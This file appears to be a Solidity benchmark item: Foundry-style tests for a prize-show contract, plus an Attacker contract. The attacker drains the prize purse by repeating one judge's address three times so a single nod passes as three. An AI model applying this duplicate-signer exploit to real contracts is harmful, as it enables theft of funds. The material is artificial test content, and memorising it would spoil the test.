// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./GreenfinchShow.sol";

// assay-canary-5bd01e0c-461a-4923-933b-85d14a10322e

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Entered eight jars; one of the judges liked them.
contract Attacker {
    GreenfinchShow internal show;

    constructor(GreenfinchShow show_) {
        show = show_;
    }

    receive() external payable {}

    function enter() external {
        for (uint256 i = 0; i < 8; ++i) show.enter{value: 0.01 ether}(GreenfinchShow.Class.Preserves, "quince");
    }

    function run(uint256 first, address friend) external {
        address[] memory judges = new address[](3);
        (judges[0], judges[1], judges[2]) = (friend, friend, friend);
        for (uint256 i = first; i < first + 8; ++i) {
            show.decorate(i, judges);
            show.payPrize(i);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant DAY = 1_700_000_000;

    GreenfinchShow internal show;
    Attacker internal jam;
    address[4] internal judges = [address(0x1001), address(0x2002), address(0x3003), address(0x4004)];

    receive() external payable {}

    function setUp() public {
        vm.warp(DAY - 10 days);
        vm.deal(address(this), 20 ether);
        show = new GreenfinchShow{value: 5 ether}(0.5 ether);
        show.setShowDay(DAY);
        for (uint256 i = 0; i < 4; ++i) show.setJudge(judges[i], true);
        show.enter{value: 0.01 ether}(GreenfinchShow.Class.Bread, "rye");
        jam = new Attacker(show);
        vm.deal(address(jam), 0.08 ether);
        jam.enter();
        vm.warp(DAY + 3 hours);
        for (uint256 i = 1; i <= 8; ++i) {
            vm.prank(judges[1]);
            show.nod(i);
        }
    }

    function test_Regular() public {
        address[] memory list = new address[](3);
        for (uint256 i = 0; i < 3; ++i) {
            vm.prank(judges[i]);
            show.nod(0);
            list[i] = judges[i];
        }
        (bool ok, ) = address(show).call(abi.encodeCall(show.nod, (0)));
        require(!ok, "not a judge");
        address[] memory other = new address[](3);
        (other[0], other[1], other[2]) = (judges[0], judges[1], judges[3]);
        require(!_decorate(0, other), "no nod of the fourth");
        (other[1], other[2]) = (judges[2], judges[1]);
        require(!_decorate(0, other), "not in order");
        require(!_decorate(0, new address[](2)), "too few");
        require(!_decorate(1, list), "of another");

        show.decorate(0, list);
        require(!_decorate(0, list), "decorated twice");
        require(show.rosettes(GreenfinchShow.Class.Bread) == 1, "counted");
        uint256 before = address(this).balance;
        show.payPrize(0);
        require(address(this).balance == before + 0.5 ether, "prize");
        (ok, ) = address(show).call(abi.encodeCall(show.payPrize, (0)));
        require(!ok, "paid twice");
        require(show.entry(0).paidOut && !show.entry(1).rosette, "entries");
        vm.warp(DAY + 61 days);
        show.closePurse();
        require(address(show).balance == 0, "purse");

        (ok, ) = address(show).call{value: 1 ether}("");
        require(ok && address(show).balance == 1 ether, "a gift");
    }

    function _decorate(uint256 id, address[] memory list) private returns (bool ok) {
        (ok, ) = address(show).call(abi.encodeCall(show.decorate, (id, list)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The day, the judges and the purse are the secretary's.
    function test_RefusesStrangers() public {
        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
        show.setShowDay(DAY + 1 days);
        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
        show.setJudge(address(0xBEE), true);
        vm.expectRevert(GreenfinchShow.JudgesOnly.selector);
        show.nod(1);
        vm.warp(DAY + 61 days);
        refuses(judges[0], GreenfinchShow.SecretaryOnly.selector);
        show.closePurse();
    }

    /// Everything has its day.
    function test_RefusesOtherDays() public {
        vm.expectRevert(GreenfinchShow.NotThisDay.selector);
        show.enter{value: 0.01 ether}(GreenfinchShow.Class.Bread, "late");
        vm.warp(DAY - 1);
        vm.expectRevert(GreenfinchShow.EntryFee.selector);
        show.enter(GreenfinchShow.Class.Bread, "free");
        refuses(judges[0], GreenfinchShow.NotThisDay.selector);
        show.nod(0);
        vm.warp(DAY + 1 days);
        refuses(judges[0], GreenfinchShow.NotThisDay.selector);
        show.nod(0);
        vm.warp(DAY + 60 days - 1);
        vm.expectRevert(GreenfinchShow.NotThisDay.selector);
        show.closePurse();
    }

    /// Nobody judges or decorates for others, or without nods.
    function test_RefusesDecorations() public {
        show.setJudge(address(this), true);
        vm.expectRevert(GreenfinchShow.OwnEntry.selector);
        show.nod(0);
        address[] memory list = new address[](3);
        for (uint256 i = 0; i < 3; ++i) {
            vm.prank(judges[i]);
            show.nod(0);
            list[i] = judges[i];
        }
        refuses(judges[0], GreenfinchShow.ExhibitorOnly.selector);
        show.decorate(0, list);
        address[] memory two = new address[](2);
        (two[0], two[1]) = (list[0], list[1]);
        vm.expectRevert(abi.encodeWithSelector(GreenfinchShow.TooFewNods.selector, 2));
        show.decorate(0, two);
        vm.expectRevert(GreenfinchShow.NothingToPay.selector);
        show.payPrize(0);
        show.decorate(0, list);
        vm.deal(address(show), 0);
        vm.expectRevert(GreenfinchShow.Unpaid.selector);
        show.payPrize(0);
    }

    function exploit() public {
        jam.run(1, judges[1]);
    }

    function test_Exploit() public {
        uint256 before = address(jam).balance;
        exploit();
        require(address(jam).balance >= before + 4 ether, "no prizes");
    }

    function target() public view returns (address) {
        return address(show);
    }

    function attacker() public view returns (address) {
        return address(jam);
    }
}
